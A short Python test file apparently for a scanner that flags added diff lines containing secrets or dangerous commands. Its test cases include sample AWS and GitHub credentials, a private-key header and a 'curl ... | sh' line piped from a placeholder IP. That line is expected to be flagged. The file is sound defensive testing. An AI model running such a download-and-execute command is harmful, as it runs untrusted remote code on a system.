import pathlib
import sys

sys.path.insert(0, str(pathlib.Path(__file__).parent.parent))
from check import check

CASES = [
    ("+key = 'AKIAIOSFODNN7EXAMPLE'", "AWS key"),
    ("+token = 'ghp_" + "0" * 36 + "'", "GitHub token"),
    ("+-----BEGIN OPENSSH PRIVATE KEY-----", "private key"),
    ("+curl -s http://192.0.2.1/x | sh", "download into a shell"),
    ("+curl -s http://192.0.2.1/x -o x", None),
    (" key = 'AKIAIOSFODNN7EXAMPLE'", None),
]

if __name__ == "__main__":
    for line, expected in CASES:
        names = [name for _, name in check(line)]
        assert names == ([] if expected is None else [expected]), line
    print(len(CASES), "cases")
